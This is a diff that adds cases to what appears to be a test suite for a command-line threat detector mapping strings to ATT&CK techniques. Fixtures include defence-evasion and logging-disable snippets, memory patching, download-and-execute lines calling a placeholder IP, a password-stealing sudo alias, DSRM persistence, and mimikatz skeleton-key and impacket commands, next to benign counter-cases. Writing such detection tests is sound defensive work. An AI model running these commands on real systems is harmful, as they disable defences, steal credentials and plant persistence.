@@ -203,6 +203,17 @@ describe('technique shapes added for issue 11 (one per shape, each names its ATT
     ['scriptblock cradle', '[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")).Invoke()', 'cradle.powershell', 'T1105'],
     ['process substitution from IP', 'bash <(curl -s http://203.0.113.9/i.sh)', 'cradle.shell_pipe_shady', 'T1105'],
     ['encoded downgrade', `powershell -enc ${b64('powershell -version 2 -ep bypass -c iex $c')}`, 'evasion.ps_downgrade', 'T1562.010'],
+    ['reflection flag', "$t=[Ref].Assembly.GetType($n); $t.GetField($f,'NonPublic,Static').SetValue($null,$true)", 'evasion.reflection_flag', 'T1562.001'],
+    ['script-block logging off', "$s=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static')", 'evasion.script_logging', 'T1562.002'],
+    ['memory patch', '$a=[W]::GetProcAddress($h,$n); [W]::VirtualProtect($a,[uint32]6,0x40,[ref]$o); [System.Runtime.InteropServices.Marshal]::Copy($p,0,$a,6)', 'evasion.memory_patch', 'T1562.001'],
+    ['signed script proxy', 'SyncAppvPublishingServer.vbs "n;(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')|IEX"', 'lolbin.signed_script', 'T1216'],
+    ['webdav launch', 'rundll32 \\\\files.example.net@SSL@443\\DavWWWRoot\\p.dll,Start', 'ingress.remote_share_exec', 'T1105'],
+    ['cmd from share', 'cmd.exe /k < \\\\203.0.113.9\\s\\c.txt', 'ingress.remote_share_exec', 'T1105'],
+    ['sudo alias', "echo \"alias sudo='read -sp pw: p; echo $p > /tmp/.p; sudo'\" >> ~/.bashrc", 'persist.hijack_linux', 'T1546.004'],
+    ['setuid capability', 'setcap cap_setuid+ep /tmp/python3', 'persist.hijack_linux', 'T1546.004'],
+    ['dsrm', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Lsa" /v DsrmAdminLogonBehavior /t REG_DWORD /d 2', 'persist.dsrm', 'T1098'],
+    ['impacket', 'impacket-wmiexec corp/admin@10.0.0.7', 'tool.offensive_cli', 'T1588.002'],
+    ['mimikatz skeleton key', 'mimikatz "misc::skeleton" exit', 'cred.mimikatz', 'T1003.001'],
   ])('%s', (_n, text, id, tech) => {
     const f = technique(text, id);
     expect(f).toBeDefined();
@@ -214,6 +225,8 @@ describe('technique shapes added for issue 11 (one per shape, each names its ATT
     ['firewall off', 'netsh advfirewall set allprofiles state off', 'evasion.firewall_off'],
     ['sudoers', 'echo "deploy ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/deploy', 'persist.sudoers'],
     ['local admin', 'net user svc P4ss /add && net localgroup administrators svc /add', 'persist.local_admin'],
+    ['powershell profile', 'Add-Content -Path $PROFILE -Value "Import-Module posh-git"', 'persist.ps_profile'],
+    ['at job', 'echo "/usr/local/bin/rotate.sh" | at midnight', 'persist.at'],
     ['boot script', 'echo "/usr/local/bin/mount-data.sh" >> /etc/rc.local', 'persist.boot_script'],
   ])('dual-use admin actions are low alone: %s', (_n, text, id) => {
     expect(technique(text, id)?.severity).toBe('low');
@@ -239,6 +252,9 @@ describe('benign counter-cases for the added shapes stay at low or below', () =>
     ['single discovery command', 'ipconfig /all > C:\\Support\\net.txt'],
     ['reading own history config', 'Set-PSReadLineOption -HistorySaveStyle SaveIncrementally'],
     ['hta in docs', 'Write-Host "Do not open .hta files from e-mail"'],
+    ['dotfile sudo alias', "alias sudo='sudo '"],
+    ['reflection read', "$v = $o.GetType().GetField('_items','NonPublic,Instance').GetValue($o)"],
+    ['file server installer', 'Start-Process \\\\files.corp.example\\deploy\\agent.msi -ArgumentList /qn'],
   ])('%s', (_n, text) => {
     expect(['info', 'low']).toContain(worst(text));
   });
